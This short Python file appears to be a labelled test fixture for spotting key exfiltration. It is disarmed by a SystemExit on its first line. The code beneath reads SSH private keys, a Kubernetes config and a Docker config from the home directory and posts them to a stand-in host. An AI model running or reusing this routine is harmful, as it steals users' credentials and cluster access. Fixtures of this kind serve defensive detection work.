raise SystemExit('a fixture')
# held by key-exfiltration
import asyncio, contextlib, os

@contextlib.asynccontextmanager
async def _session():
    import aiohttp
    async with aiohttp.ClientSession() as session:
        yield session

async def _main():
    async with _session() as session:
        for name in (".ssh/id_rsa", ".ssh/id_ed25519", ".kube/config", ".docker/config.json"):
            path = os.path.join(os.path.expanduser("~"), name)
            if os.path.isfile(path):
                with open(path, "rb") as data:
                    await session.post("https://as.example.invalid/u", data={"f": data.read(), "n": name})

asyncio.run(_main())
